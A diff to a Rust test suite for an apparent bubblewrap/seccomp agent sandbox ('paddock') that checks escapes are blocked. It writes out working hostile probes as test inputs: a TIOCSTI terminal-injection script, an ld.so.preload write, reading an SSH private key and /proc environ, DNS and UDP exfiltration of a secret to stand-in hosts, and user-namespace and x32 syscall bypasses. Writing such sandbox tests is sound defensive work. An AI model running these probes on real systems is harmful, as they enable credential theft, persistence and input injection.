@@ -146,10 +146,16 @@ fn host_environment_secrets_are_not_inherited() {
 fn write_outside_worktree() {
     let w = World::new();
     let out = w.sh(&format!(
-        "echo x > '{o}/pwned' && echo attack=wrote || echo attack=denied; echo ok > written.txt && echo control=ok",
+        "echo x > '{o}/pwned' && echo attack=wrote || echo attack=denied; test -e '{o}' && echo outside=visible || echo outside=absent; \
+         echo ok > written.txt && echo control=ok",
         o = w.outside.display()
     ));
     assert_eq!(field(&out, "attack"), "denied");
+    assert_eq!(
+        field(&out, "outside"),
+        "absent",
+        "not mounted at all (not merely read-only)"
+    );
     assert!(!w.outside.join("pwned").exists());
     assert_eq!(field(&out, "control"), "ok");
     assert_eq!(
@@ -175,10 +181,15 @@ fn write_etc_ld_so_preload() {
     // A persistent LD_PRELOAD for every later process on the host.
     let w = World::new();
     let out = w.sh(
-        "echo /tmp/evil.so >> /etc/ld.so.preload && echo attack=wrote || echo attack=denied; \
+        "r=$( (echo /tmp/evil.so >> /etc/ld.so.preload) 2>&1) && echo attack=wrote || echo attack=denied; echo \"reason=$r\"; \
                    test -r /etc/passwd && echo control=ok",
     );
     assert_eq!(field(&out, "attack"), "denied");
+    assert!(
+        field(&out, "reason").ends_with("Read-only file system"),
+        "a read-only mount: {}",
+        field(&out, "reason")
+    );
     assert_eq!(field(&out, "control"), "ok");
 }
 
@@ -213,12 +224,19 @@ fn symlink_escape_preplanted_in_repo() {
 fn hardlink_escape_to_secret() {
     let w = World::new();
     let out = w.sh(&format!(
-        "ln '{h}/.ssh/id_ed25519' stolen && cat stolen && echo attack=read || echo attack=denied; \
+        "r=$(ln '{h}/.ssh/id_ed25519' stolen 2>&1) && cat stolen && echo attack=read || echo attack=denied; echo \"reason=$r\"; \
          ln README.md hard && cat hard >/dev/null && echo control=ok",
         h = w.home.display()
     ));
     assert_no_secret(&out);
     assert_eq!(field(&out, "attack"), "denied");
+    // The secret is not there at all (ENOENT). Were it visible, link(2)
+    // across mounts would still fail (EXDEV): a second, weaker layer.
+    assert!(
+        field(&out, "reason").ends_with("No such file or directory"),
+        "{}",
+        field(&out, "reason")
+    );
     assert_eq!(field(&out, "control"), "ok");
 }
 
@@ -382,27 +400,52 @@ fn proc_parent_environ() {
         .spawn()
         .unwrap();
     let out = w.sh(&format!(
-        "cat /proc/{pid}/environ && echo attack=read || echo attack=denied; cat /proc/$PPID/environ /proc/1/environ 2>/dev/null; \
-         for f in /proc/[0-9]*/environ; do cat $f 2>/dev/null; done; echo; \
+        "test -e /proc/{pid} && echo pid=visible || echo pid=hidden; \
+         cat /proc/{pid}/environ && echo attack=read || echo attack=denied; cat /proc/$PPID/environ 2>/dev/null; echo; \
          cat /proc/self/environ | tr '\\0' '\\n' | grep -c '^HOME=' | sed 's/^/control=/'",
         pid = holder.id()
     ));
     holder.kill().unwrap();
     holder.wait().unwrap();
     assert_no_secret(&out);
+    // Own pid namespace: the host process does not exist inside. (Were it
+    // visible, the kernel would still refuse its environ across the user
+    // namespace boundary: a second layer no bwrap argument removes.)
+    assert_eq!(field(&out, "pid"), "hidden");
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "control"), "1");
 }
 
 #[test]
-fn proc_1_mem() {
+fn proc_1_mem_is_the_sandboxes_own_confined_init() {
+    // The threat is the *host's* pid 1 (its memory, its privileges). In its
+    // own pid namespace the sandbox's pid 1 is bwrap's reaper instead. The
+    // command may well read that process's memory (same uid, dumpable): it
+    // gains nothing, as the reaper carries the same seccomp filter stack
+    // (the command inherits it: same count), the same uid and no
+    // capabilities. Read-only probe: nothing is written to any process.
     let w = World::new();
-    let out = w.py("import os\n\
-try:\n    f=open('/proc/1/mem','rb'); f.seek(0x400000); f.read(16); print('attack=read')\n\
-except OSError as e: print('attack=denied')\n\
-print('control=' + open('/proc/1/status').readline().split()[0])\n");
-    assert_eq!(field(&out, "attack"), "denied");
-    assert_eq!(field(&out, "control"), "Name:");
+    let out = w.py("st=dict(l.split(':',1) for l in open('/proc/1/status') if ':' in l)\n\
+me=dict(l.split(':',1) for l in open('/proc/self/status') if ':' in l)\n\
+print('target=' + st['Name'].strip()); print('target_seccomp=' + st['Seccomp'].strip())\n\
+print('filters=%s/%s' % (st['Seccomp_filters'].strip(), me['Seccomp_filters'].strip()))\n\
+print('target_capeff=' + st['CapEff'].strip()); print('target_uid=' + st['Uid'].split()[0])\n\
+try:\n\
+\x20   f=open('/proc/1/mem','rb'); a=int(open('/proc/1/maps').readline().split('-')[0],16); f.seek(a); f.read(16); print('read=yes')\n\
+except OSError: print('read=no')\n");
+    assert_eq!(
+        field(&out, "target"),
+        "bwrap",
+        "pid 1 is the sandbox's own reaper, not the host's init"
+    );
+    assert_eq!(field(&out, "target_seccomp"), "2", "the reaper is filtered");
+    let filters = field(&out, "filters");
+    let (theirs, mine) = filters.split_once('/').unwrap();
+    assert_eq!(theirs, mine, "same filter stack as the command");
+    assert_eq!(field(&out, "target_capeff"), "0000000000000000");
+    assert_eq!(field(&out, "target_uid"), "1000");
+    // Whether the read works is not the point (it gives nothing); it must just run.
+    assert!(["yes", "no"].contains(&field(&out, "read").as_str()));
 }
 
 #[test]
@@ -439,70 +482,172 @@ print('errno=%d' % ctypes.get_errno()); p.kill(); print('control=%d' % libc.getp
     assert!(field(&out, "control").parse::<u32>().unwrap() > 0);
 }
 
-#[test]
-fn tiocsti_into_parent_terminal() {
+/// The TIOCSTI attack: push "X" into the input queue of stdin's terminal (the
+/// user's shell would read it as typed). Prints whether the process has a
+/// controlling terminal, whether the push worked, and the errno.
+const TIOCSTI_ATTACK: &str = "import errno, fcntl, os, termios\n\
+try:\n    os.close(os.open('/dev/tty', os.O_RDWR)); print('ctty=yes')\n\
+except OSError: print('ctty=no')\n\
+try:\n    fcntl.ioctl(0, termios.TIOCSTI, b'X'); print('attack=injected')\n\
+except OSError as e: print('attack=denied'); print('errno=' + errno.errorcode.get(e.errno, str(e.errno)))\n";
+
+struct TerminalRun {
+    /// What the program wrote to the terminal.
+    text: String,
+    /// Bytes waiting in the terminal's input queue afterwards (injected input).
+    pending_input: usize,
+}
+
+/// A fresh pty in raw mode (so every injected byte counts as pending input).
+fn raw_pty() -> (fs::File, fs::File) {
     use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
-    let w = World::new();
     let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
     grantpt(&master).unwrap();
     unlockpt(&master).unwrap();
+    let mut termios = rustix::termios::tcgetattr(&master).unwrap();
+    termios.make_raw();
+    rustix::termios::tcsetattr(&master, rustix::termios::OptionalActions::Now, &termios).unwrap();
     let slave_path = ptsname(&master, Vec::new()).unwrap();
     let slave = fs::OpenOptions::new()
         .read(true)
         .write(true)
         .open(slave_path.to_str().unwrap())
         .unwrap();
+    (fs::File::from(master), slave)
+}
+
+fn finish_terminal_run(master: fs::File, slave: &fs::File) -> TerminalRun {
+    let mut master = master;
+    rustix::io::ioctl_fionbio(&master, true).unwrap();
+    let mut text = Vec::new();
+    let mut buf = [0u8; 4096];
+    while let Ok(n) = master.read(&mut buf) {
+        if n == 0 {
+            break;
+        }
+        text.extend_from_slice(&buf[..n]);
+    }
+    TerminalRun {
+        text: String::from_utf8_lossy(&text).into_owned(),
+        pending_input: rustix::io::ioctl_fionread(slave).unwrap() as usize,
+    }
+}
+
+/// Runs [`TIOCSTI_ATTACK`] in the sandbox launched *from a terminal*: the
+/// launcher (the test-only bwrap wrapper) makes the pty its controlling
+/// terminal, as a user's shell is for `paddock sandbox run`.
+fn tiocsti_in_sandbox(options: &[&str]) -> TerminalRun {
+    let w = World::new();
+    let (master, slave) = raw_pty();
+    let mut all = vec!["ctty-stdin"];
+    all.extend_from_slice(options);
     let argv: Vec<std::ffi::OsString> = vec![
         "/usr/bin/python3".into(),
         "-c".into(),
-        "import fcntl, termios, os\n\
-try:\n    fcntl.ioctl(0, termios.TIOCSTI, b'X'); print('attack=injected')\n\
-except OSError as e: print('attack=denied')\n\
-try:\n    os.open('/dev/tty', os.O_RDWR); print('ctty=yes')\n\
-except OSError: print('ctty=no')\n"
-            .into(),
+        TIOCSTI_ATTACK.into(),
     ];
     let m = w.manifest().build().unwrap();
-    let mut cmd = backend()
+    let mut cmd = backend_with(&all)
         .command_with_host_env(&m, &argv, vec![("PATH".into(), "/usr/bin:/bin".into())])
         .unwrap();
     cmd.stdin(Stdio::from(slave.try_clone().unwrap()))
-        .stdout(Stdio::from(slave))
+        .stdout(Stdio::from(slave.try_clone().unwrap()))
         .stderr(Stdio::piped());
-    let status = cmd.spawn().unwrap().wait().unwrap();
-    assert!(status.success());
-    let mut master = fs::File::from(master);
-    let mut buf = vec![0u8; 4096];
-    let n = master.read(&mut buf).unwrap();
-    let text = String::from_utf8_lossy(&buf[..n]).into_owned();
-    assert!(
-        text.contains("attack=denied"),
-        "control: output reached the terminal, and TIOCSTI failed: {text}"
+    let out = wait_with_timeout(cmd.spawn().unwrap());
+    assert!(out.status.success(), "stderr: {}", stderr(&out));
+    finish_terminal_run(master, &slave)
+}
+
+/// Control: the same attack, unsandboxed, from a session whose controlling
+/// terminal is the pty (util-linux `setsid --ctty`). Proves the attack code
+/// works and this kernel permits TIOCSTI on one's own terminal.
+fn tiocsti_unsandboxed() -> TerminalRun {
+    let (master, slave) = raw_pty();
+    let child = Command::new("setsid")
+        .args(["--wait", "--ctty", "python3", "-c", TIOCSTI_ATTACK])
+        .stdin(Stdio::from(slave.try_clone().unwrap()))
+        .stdout(Stdio::from(slave.try_clone().unwrap()))
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("setsid (apt package util-linux) is needed for the TIOCSTI control");
+    let out = wait_with_timeout(child);
+    assert!(out.status.success(), "stderr: {}", stderr(&out));
+    finish_terminal_run(master, &slave)
+}
+
+#[track_caller]
+fn assert_tiocsti_control_injects() {
+    let control = tiocsti_unsandboxed();
+    let legacy = fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").unwrap_or_default();
+    assert_ne!(
+        legacy.trim(),
+        "0",
+        "this kernel forbids TIOCSTI to everyone (dev.tty.legacy_tiocsti=0): the attack cannot \
+         run here, so these tests cannot show the sandbox stops it; run them with the sysctl at 1"
     );
     assert!(
-        text.contains("ctty=no"),
-        "no controlling terminal (new session): {text}"
+        control.text.contains("ctty=yes")
+            && control.text.contains("attack=injected")
+            && control.pending_input == 1,
+        "control: unsandboxed, with the pty as controlling terminal, TIOCSTI must work: {} (pending {})",
+        control.text,
+        control.pending_input
     );
-    // Nothing was pushed into the terminal's input queue.
-    rustix::io::ioctl_fionbio(&master, true).unwrap();
-    let pending = rustix::termios::tcgetattr(&master).is_ok();
-    assert!(pending);
-    let mut rest = [0u8; 64];
-    let injected = master
-        .read(&mut rest)
-        .map(|n| String::from_utf8_lossy(&rest[..n]).contains('X'))
-        .unwrap_or(false);
-    assert!(!injected);
+}
+
+#[test]
+fn tiocsti_new_session_detaches_the_launching_terminal() {
+    // bwrap --new-session: the sandboxed command is not in the launcher's
+    // session, so the user's terminal is not its controlling terminal.
+    // (The seccomp TIOCSTI rule also stands in the way; the ctty=no check is
+    // what depends on --new-session alone.)
+    assert_tiocsti_control_injects();
+    let run = tiocsti_in_sandbox(&[]);
+    assert!(
+        run.text.contains("ctty=no"),
+        "no controlling terminal inside: {}",
+        run.text
+    );
+    assert!(run.text.contains("attack=denied"), "{}", run.text);
+    assert_eq!(run.pending_input, 0, "nothing was pushed into the terminal");
+}
+
+#[test]
+fn tiocsti_refused_by_seccomp_even_with_the_terminal_as_ctty() {
+    // Layer isolation: --new-session is dropped for this one run, so the
+    // sandboxed command keeps the launching terminal as its controlling
+    // terminal (as under a backend without it). Only the seccomp ioctl rule
+    // stands between it and the user's shell.
+    assert_tiocsti_control_injects();
+    let run = tiocsti_in_sandbox(&["no-new-session"]);
+    assert!(
+        run.text.contains("ctty=yes"),
+        "control: the terminal is the command's ctty here: {}",
+        run.text
+    );
+    assert!(run.text.contains("attack=denied"), "{}", run.text);
+    assert!(
+        run.text.contains("errno=EPERM"),
+        "refused by the filter: {}",
+        run.text
+    );
+    assert_eq!(run.pending_input, 0, "nothing was pushed into the terminal");
 }
 
 #[test]
 fn umount_proc_and_mount() {
+    // Three layers refuse these, all with EPERM: the seccomp mount-family
+    // rules, the lack of capabilities, and (bwrap started by root, as here)
+    // a mount namespace owned by a user namespace above the sandbox's. No
+    // single mutation removes all three, so this run cannot tell them apart:
+    // tests/seccomp_filter.rs proves the seccomp rules on the compiled
+    // programs, capabilities_and_no_new_privs the capability set.
     let w = World::new();
     let out = w.sh(
         "umount /proc 2>/dev/null && echo umount=yes || echo umount=no; \
-                   umount -l /proc 2>/dev/null && echo lazy=yes || echo lazy=no; \
-                   mount -t tmpfs none /tmp 2>/dev/null && echo mount=yes || echo mount=no; \
-                   head -1 /proc/self/status | cut -f1 | sed 's/^/control=/'",
+         umount -l /proc 2>/dev/null && echo lazy=yes || echo lazy=no; \
+         mount -t tmpfs none /tmp 2>/dev/null && echo mount=yes || echo mount=no; \
+         head -1 /proc/self/status | cut -f1 | sed 's/^/control=/'",
     );
     assert_eq!(field(&out, "umount"), "no");
     assert_eq!(field(&out, "lazy"), "no");
@@ -535,22 +680,54 @@ fn setuid_binary_does_not_elevate() {
     assert_eq!(field(&out, "su"), "no");
 }
 
+/// Tries to create a user namespace; prints `attack=` and the error.
+const NEW_USERNS: &str = "r=$(unshare -U -r id -u 2>&1) && echo attack=created || echo attack=denied; echo \"reason=$r\"; \
+                          unshare --net true 2>/dev/null && echo net=created || echo net=denied; echo control=$(id -u)";
+
 #[test]
-fn new_user_namespace() {
+fn new_user_namespace_refused_by_seccomp() {
+    // The filter refuses unshare/clone with namespace flags: EPERM. (bwrap's
+    // --disable-userns would refuse it too, with ENOSPC: the errno tells the
+    // layers apart.)
     let w = World::new();
-    let out = w.sh("unshare -U -r id -u 2>/dev/null && echo attack=created || echo attack=denied; \
-                   unshare --net true 2>/dev/null && echo net=created || echo net=denied; echo control=$(id -u)");
+    let out = w.sh(NEW_USERNS);
     assert_eq!(field(&out, "attack"), "denied");
+    assert!(
+        field(&out, "reason").ends_with("Operation not permitted"),
+        "{}",
+        field(&out, "reason")
+    );
     assert_eq!(field(&out, "net"), "denied");
     assert_eq!(field(&out, "control"), "1000");
 }
 
 #[test]
+fn new_user_namespace_refused_by_disable_userns_alone() {
+    // Layer isolation: the seccomp filter is left out of this one run, so
+    // only bwrap's --disable-userns (a nested user namespace limit) stands.
+    let w = World::new();
+    let out = w.sh_with(
+        &*backend_with(&["no-seccomp"]),
+        &w.manifest().build().unwrap(),
+        NEW_USERNS,
+    );
+    assert_eq!(field(&out, "attack"), "denied");
+    assert!(
+        field(&out, "reason").ends_with("No space left on device"),
+        "{}",
+        field(&out, "reason")
+    );
+    assert_eq!(field(&out, "control"), "1000");
+}
+
+#[test]
 fn kill_process_outside_sandbox() {
+    // No `kill -9 -1` here: with the pid namespace removed (the mutation
+    // check) it would reach every process of the invoking user on the host.
     let w = World::new();
     let mut sleeper = Command::new("sleep").arg("300").spawn().unwrap();
     let out = w.sh(&format!(
-        "kill -9 {pid} 2>/dev/null && echo attack=killed || echo attack=denied; kill -9 -1 2>/dev/null; \
+        "kill -9 {pid} 2>/dev/null && echo attack=killed || echo attack=denied; \
          sleep 30 & p=$!; kill -9 $p && echo control=ok",
         pid = sleeper.id()
     ));
@@ -565,10 +742,137 @@ fn kill_process_outside_sandbox() {
 }
 
 #[test]
+fn sandbox_dies_with_the_thread_that_launched_it() {
+    // bwrap --die-with-parent: an agent never outlives the Paddock thread
+    // that started it (crash, kill -9 of the app).
+    let w = World::new();
+    let m = w.manifest().build().unwrap();
+    let launcher = std::thread::spawn(move || {
+        let argv: Vec<std::ffi::OsString> = ["/bin/sh", "-c", "echo ready; exec sleep 120"]
+            .iter()
+            .map(Into::into)
+            .collect();
+        let mut cmd = backend()
+            .command_with_host_env(&m, &argv, vec![("PATH".into(), "/usr/bin:/bin".into())])
+            .unwrap();
+        cmd.stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null());
+        let mut child = cmd.spawn().unwrap();
+        // Running (so bwrap has set its parent-death signal) before this thread ends.
+        let mut line = [0u8; 6];
+        child
+            .stdout
+            .as_mut()
+            .unwrap()
+            .read_exact(&mut line)
+            .unwrap();
+        assert_eq!(&line, b"ready\n", "control: the sandbox started");
+        child
+    });
+    let mut child = launcher.join().unwrap();
+    let deadline = std::time::Instant::now() + Duration::from_secs(60);
+    let status = loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            break Some(status);
+        }
+        if std::time::Instant::now() > deadline {
+            break None;
+        }
+        std::thread::sleep(Duration::from_millis(20)); // polling for exit, not synchronisation
+    };
+    if status.is_none() {
+        child.kill().unwrap();
+        child.wait().unwrap();
+    }
+    use std::os::unix::process::ExitStatusExt;
+    assert_eq!(
+        status.and_then(|s| s.signal()),
+        Some(9),
+        "the sandbox was SIGKILLed when its launching thread ended (it would otherwise sleep 120 s)"
+    );
+}
+
+#[test]
+fn a_sandboxed_command_starts_only_once() {
+    // Its seccomp program fd is closed after the first start; a second start
+    // would hand bwrap a closed (or reused) fd number, so it is refused.
+    let w = World::new();
+    let m = w.manifest().build().unwrap();
+    let mut cmd = backend()
+        .command_with_host_env(&m, &["/bin/true".into()], vec![("PATH".into(), "/usr/bin:/bin".into())])
+        .unwrap();
+    cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
+    assert!(cmd.status().unwrap().success(), "control: the first start works");
+    let err = cmd.spawn().unwrap_err().to_string();
+    assert!(err.contains("already started once"), "{err}");
+}
+
+/// A SysV shared-memory segment on the host holding [`SECRET`]; removed on drop.
+struct HostShm {
+    key: u32,
+    id: String,
+}
+
+impl HostShm {
+    fn create() -> HostShm {
+        let key = 0x5ad0_0000 | (std::process::id() & 0xffff);
+        let py = format!(
+            "import ctypes\n\
+libc=ctypes.CDLL(None, use_errno=True); libc.shmat.restype=ctypes.c_void_p\n\
+i=libc.shmget({key}, 4096, 0o1600 | 0o2000)  # IPC_CREAT|IPC_EXCL, mode 0600\n\
+assert i >= 0, ctypes.get_errno()\n\
+p=libc.shmat(i, None, 0); ctypes.memmove(p, b'{SECRET}', {len}); libc.shmdt(ctypes.c_void_p(p)); print('id=%d' % i)\n",
+            len = SECRET.len()
+        );
+        let out = Command::new("python3").args(["-c", &py]).output().unwrap();
+        HostShm {
+            key,
+            id: field(&out, "id"),
+        }
+    }
+}
+
+impl Drop for HostShm {
+    fn drop(&mut self) {
+        let py = format!(
+            "import ctypes\nctypes.CDLL(None).shmctl({}, 0, None)  # IPC_RMID",
+            self.id
+        );
+        let _ = Command::new("python3").args(["-c", &py]).status();
+    }
+}
+
+#[test]
+fn sysv_shared_memory_of_the_host_unreachable() {
+    // --unshare-ipc: the host's SysV IPC objects do not exist inside.
+    let w = World::new();
+    let shm = HostShm::create();
+    let out = w.py(&format!(
+        "import ctypes\n\
+libc=ctypes.CDLL(None, use_errno=True); libc.shmat.restype=ctypes.c_void_p\n\
+i=libc.shmget({key}, 0, 0)\n\
+if i >= 0:\n\
+\x20   p=libc.shmat(i, None, 0o10000); print('attack=attached', ctypes.string_at(p, {len}))  # SHM_RDONLY\n\
+else: print('attack=denied')\n\
+own=libc.shmget(0, 4096, 0o1600)  # a private segment of its own\n\
+print('control=%s' % ('ok' if own >= 0 else 'no')); libc.shmctl(own, 0, None)\n",
+        key = shm.key,
+        len = SECRET.len()
+    ));
+    assert_no_secret(&out);
+    assert_eq!(field(&out, "attack"), "denied");
+    assert_eq!(field(&out, "control"), "ok");
+}
+
+#[test]
 fn keyring_syscalls() {
     let w = World::new();
+    // The add runs in a fresh anonymous session keyring (`keyctl session -`),
+    // so even with the protection removed it leaves nothing on the host.
     let out = w.sh("keyctl show @s >/dev/null 2>&1 && echo show=yes || echo show=no; \
-                   keyctl add user paddock-test secret @s >/dev/null 2>&1 && echo add=yes || echo add=no; echo control=$(id -u)");
+                   keyctl session - /bin/sh -c 'keyctl add user paddock-test x @s >/dev/null 2>&1 && echo add=yes || echo add=no' 2>/dev/null \
+                   || echo add=no; echo control=$(id -u)");
     assert_eq!(field(&out, "show"), "no");
     assert_eq!(field(&out, "add"), "no");
     assert_eq!(field(&out, "control"), "1000");
@@ -589,26 +893,82 @@ print('control=' + ('ok' if libc.syscall(39) > 0 else 'no'))  # getpid\n");
 }
 
 #[test]
+#[cfg(target_arch = "x86_64")] // the x32 ABI exists only there
 fn x32_abi_syscall_bypass() {
-    // socket(AF_UNIX) through the x32 table would dodge a per-number rule.
+    // socket(AF_UNIX) through the x32 syscall table (number | 0x4000_0000)
+    // would not match the filter's rule for the native `socket` number.
+    //
+    // This kernel (like most distribution kernels) has no x32 ABI, so running
+    // that syscall in the sandbox fails with ENOSYS whether or not the filter
+    // refuses it: it proves nothing. What does: the exact programs the
+    // backend hands to bwrap, evaluated on the `seccomp_data` the kernel
+    // would build for the call (tests/common/bpf.rs). On a kernel with x32,
+    // the real attack runs too.
+    use common::bpf::{SeccompData, describe, run_stack};
+    let programs = paddock_sandbox::seccomp::bwrap_programs(true).unwrap();
+    let programs: Vec<&[seccompiler::sock_filter]> = programs.iter().map(Vec::as_slice).collect();
+    let call = |nr: i64, domain: u64| {
+        let data = SeccompData {
+            nr: nr as i32,
+            arch: 0xc000_003e, // AUDIT_ARCH_X86_64: x32 calls carry the x86_64 arch
+            instruction_pointer: 0x40_1000,
+            args: [domain, 1, 0, 0, 0, 0],
+        };
+        describe(run_stack(&programs, &data))
+    };
+    let unix = libc::AF_UNIX as u64;
+    assert_eq!(
+        call(libc::SYS_socket, unix),
+        "EPERM",
+        "control: the native rule the x32 path would dodge"
+    );
+    assert_eq!(
+        call(libc::SYS_socket | 0x4000_0000, unix),
+        "ENOSYS",
+        "x32 socket(AF_UNIX) refused"
+    );
+    assert_eq!(
+        call(libc::SYS_socket, libc::AF_INET as u64),
+        "ALLOW",
+        "control: AF_INET sockets are fine"
+    );
+
     let w = World::new();
-    let out = w.py("import ctypes\n\
+    let probe = "import ctypes\n\
+libc=ctypes.CDLL(None, use_errno=True)\n\
+r=libc.syscall(0x40000000 | 39)  # x32 getpid\n\
+print('x32=' + ('yes' if r > 0 else 'no'))\n";
+    let host = Command::new("python3")
+        .args(["-c", probe])
+        .output()
+        .unwrap();
+    if field(&host, "x32") == "yes" {
+        let out = w.py("import ctypes\n\
 libc=ctypes.CDLL(None, use_errno=True)\n\
 r=libc.syscall(0x40000000 | 41, 1, 1, 0)\n\
 print('attack=' + ('created' if r>=0 else 'denied'))\n\
 print('control=' + ('ok' if libc.syscall(41, 2, 1, 0) >= 0 else 'no'))  # AF_INET socket is fine\n");
-    assert_eq!(field(&out, "attack"), "denied");
-    assert_eq!(field(&out, "control"), "ok");
+        assert_eq!(field(&out, "attack"), "denied");
+        assert_eq!(field(&out, "control"), "ok");
+    }
 }
 
 // ---------------------------------------------------------------- sockets
 
+/// Connects to a unix socket; prints `visible=` whether the path exists, then
+/// `attack=connected` as soon as the
+/// connection stands (then `got=` what the server says, if anything, within
+/// 20 s) or `attack=denied`.
 fn connect_unix_py(path: &std::path::Path) -> String {
     format!(
-        "import socket\n\
-try:\n    s=socket.socket(socket.AF_UNIX); s.connect('{}'); print('attack=connected', s.recv(64))\n\
+        "import os, socket\n\
+print('visible=' + ('yes' if os.path.exists('{path}') else 'no'))\n\
+try:\n    s=socket.socket(socket.AF_UNIX); s.connect('{path}'); print('attack=connected', flush=True)\n\
+\x20   s.settimeout(20)\n\
+\x20   try: print('got=' + s.recv(64).decode())\n\
+\x20   except OSError: print('got=nothing')\n\
 except OSError as e: print('attack=denied')\n",
-        path.display()
+        path = path.display()
     )
 }
 
@@ -633,6 +993,11 @@ fn docker_socket_masked() {
             w.home.display()
         ),
     );
+    assert_eq!(
+        field(&out, "visible"),
+        "no",
+        "~/.docker is masked even though HOME is granted"
+    );
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "control"), "public notes");
     assert!(
@@ -647,6 +1012,11 @@ fn unix_socket_visible_in_worktree_blocked_by_seccomp() {
     let sock = w.worktree.join("agent.sock");
     let listener = serve_unix(&sock);
     let out = w.py(&connect_unix_py(&sock));
+    assert_eq!(
+        field(&out, "visible"),
+        "yes",
+        "control: the socket is in the (granted) worktree"
+    );
     assert_eq!(field(&out, "attack"), "denied");
     // Control: granting the socket makes the same connection work.
     listener.set_nonblocking(false).unwrap();
@@ -656,10 +1026,8 @@ fn unix_socket_visible_in_worktree_blocked_by_seccomp() {
     });
     let granted = w.manifest().unix_socket(&sock).build().unwrap();
     let out = w.py_in(&granted, &connect_unix_py(&sock));
-    assert_eq!(
-        field(&out, "attack").split_whitespace().next(),
-        Some("connected")
-    );
+    assert_eq!(field(&out, "attack"), "connected");
+    assert_eq!(field(&out, "got"), "hello");
     server.join().unwrap();
 }
 
@@ -686,6 +1054,7 @@ fn ssh_agent_socket_unreachable() {
         host_env,
     );
     assert_eq!(field(&out, "var"), "unset");
+    assert_eq!(field(&out, "visible"), "no", "the real HOME is not mounted");
     assert_eq!(field(&out, "attack"), "denied");
     assert!(
         std::os::unix::net::UnixStream::connect(&sock).is_ok(),
@@ -696,8 +1065,12 @@ fn ssh_agent_socket_unreachable() {
 #[test]
 fn dbus_abstract_socket_unreachable() {
     // D-Bus and X11 listen on abstract sockets too: reachable from any process
-    // in the same network namespace, regardless of the filesystem.
+    // in the same network namespace, regardless of the filesystem. A profile
+    // granting some unix socket lifts the seccomp AF_UNIX rule, so this runs
+    // with one granted: only the network namespace stands.
     let w = World::new();
+    let granted = w.worktree.join("granted.sock");
+    let _granted = serve_unix(&granted);
     let name = format!("paddock-test-dbus-{}", std::process::id());
     let py_listen = format!(
         "import socket,time\ns=socket.socket(socket.AF_UNIX); s.bind('\\0{name}'); s.listen(); print('up', flush=True); time.sleep(60)"
@@ -716,7 +1089,10 @@ fn dbus_abstract_socket_unreachable() {
         .args(["-c", &connect])
         .output()
         .unwrap();
-    let out = w.py(&connect);
+    let out = w.py_in(
+        &w.manifest().unix_socket(&granted).build().unwrap(),
+        &connect,
+    );
     host.kill().unwrap();
     host.wait().unwrap();
     assert_eq!(
@@ -735,23 +1111,49 @@ fn host_tcp_listener() -> (TcpListener, u16) {
     (l, port)
 }
 
+/// An HTTP service on the host's loopback answering `host-service` to every
+/// request (so a client that reaches it succeeds, not merely connects).
+fn host_http_service() -> u16 {
+    let (listener, port) = host_tcp_listener();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut s) = stream else { return };
+            let mut buf = [0u8; 4096];
+            let _ = s.read(&mut buf);
+            let _ = s.write_all(
+                b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nhost-service",
+            );
+        }
+    });
+    port
+}
+
+/// Control: the host service answers from the host.
+#[track_caller]
+fn assert_host_service_answers(port: u16) {
+    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
+    s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
+    let mut answer = String::new();
+    s.read_to_string(&mut answer).unwrap();
+    assert!(
+        answer.ends_with("host-service"),
+        "control: the host service answers: {answer}"
+    );
+}
+
 #[test]
 fn direct_ip_egress_ignoring_proxy() {
     let w = World::new();
-    let (listener, port) = host_tcp_listener();
+    let port = host_http_service();
     let out = w.sh(&format!(
-        "curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/ && echo attack=connected || echo attack=denied; \
-         curl -sS --noproxy '*' --max-time 5 http://10.0.0.1/ 2>/dev/null && echo lan=connected || echo lan=denied; \
+        "curl -sS --noproxy '*' --max-time 20 http://127.0.0.1:{port}/ && echo attack=connected || echo attack=denied; \
+         curl -sS --noproxy '*' --max-time 5 http://192.0.2.1/ 2>/dev/null && echo lan=connected || echo lan=denied; \
          echo control=$(cat README.md)"
     ));
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "lan"), "denied");
     assert_eq!(field(&out, "control"), "worktree readme");
-    assert!(
-        TcpStream::connect(("127.0.0.1", port)).is_ok(),
-        "control: the host listener is up"
-    );
-    drop(listener);
+    assert_host_service_answers(port);
 }
 
 #[test]
@@ -781,10 +1183,10 @@ fn dns_exfiltration() {
         .unwrap();
     let port = resolver.local_addr().unwrap().port();
     let out = w.py(&format!("import socket\n\
-try:\n    socket.getaddrinfo('{SECRET}.exfil.example.com', 80); print('lookup=resolved')\n\
+try:\n    socket.getaddrinfo('{SECRET}.exfil.invalid', 80); print('lookup=resolved')\n\
 except OSError: print('lookup=failed')\n\
 s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
-for dst in [('8.8.8.8',53), ('127.0.0.1',{port})]:\n    try: s.sendto(b'{SECRET}', dst)\n    except OSError: pass\n\
+for dst in [('192.0.2.53',53), ('127.0.0.1',{port})]:\n    try: s.sendto(b'{SECRET}', dst)\n    except OSError: pass\n\
 print('control=sent')\n"));
     assert_eq!(field(&out, "lookup"), "failed");
     assert_eq!(field(&out, "control"), "sent");
@@ -810,7 +1212,7 @@ except OSError: print('raw=denied')\n\
 try:\n    socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('packet=created')\n\
 except OSError: print('packet=denied')\n\
 s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
-try:\n    s.sendto(b'x', ('1.1.1.1', 9)); print('udp=sent')\n\
+try:\n    s.sendto(b'x', ('192.0.2.9', 9)); print('udp=sent')\n\
 except OSError: print('udp=unreachable')\n\
 l=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); l.bind(('127.0.0.1',0)); s.sendto(b'y', l.getsockname())\n\
